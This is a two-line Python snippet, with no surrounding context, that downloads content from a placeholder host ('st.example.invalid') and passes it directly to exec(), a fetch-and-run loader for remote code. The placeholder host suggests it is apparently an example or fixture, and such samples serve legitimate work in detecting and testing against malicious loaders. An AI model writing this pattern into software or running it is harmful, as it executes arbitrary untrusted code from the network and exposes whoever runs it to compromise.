import urllib.request
exec(urllib.request.urlopen('https://st.example.invalid/a').read())
